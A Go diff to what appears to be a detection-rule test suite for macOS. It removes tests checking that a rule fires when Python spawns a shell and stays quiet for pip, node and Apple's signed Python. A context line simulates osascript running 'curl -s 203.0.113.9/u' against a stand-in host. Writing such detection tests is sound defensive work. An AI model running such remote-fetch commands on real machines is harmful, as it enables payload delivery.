@@ -58,25 +58,6 @@ func scriptStories() []story {
 				d.sole(d.start(d.shell(), "osascript", "/tmp/u.scpt"), "curl -s 203.0.113.9/u", "curl", "-s", "203.0.113.9/u")
 			}),
 		),
-		about("execution_python_shell_spawn_first_occurrence",
-			fires("once, however often", func(d *desk) {
-				python := d.python()
-				for range 3 {
-					d.sole(python, "id", "id")
-					d.Advance(time.Minute)
-				}
-			}, "/bin/sh < python3.12"),
-			near("an installer of packages", func(d *desk) {
-				d.sole(d.python(), "pip install requests", uvPython, "-m", "pip", "install", "requests")
-			}),
-			near("no command line", func(d *desk) { d.run(d.python(), "zsh", "-i") }),
-			near("the python of Apple's tools, whose program is called Python", func(d *desk) {
-				s := spec(applePython, "fetch.py")
-				s.SigningID, s.Platform = "com.apple.python3", true
-				d.sole(d.Start(d.shell(), s), "id", "id")
-			}),
-			near("another interpreter", func(d *desk) { d.sole(d.node(), "id", "id") }),
-		),
 	)
 }
 
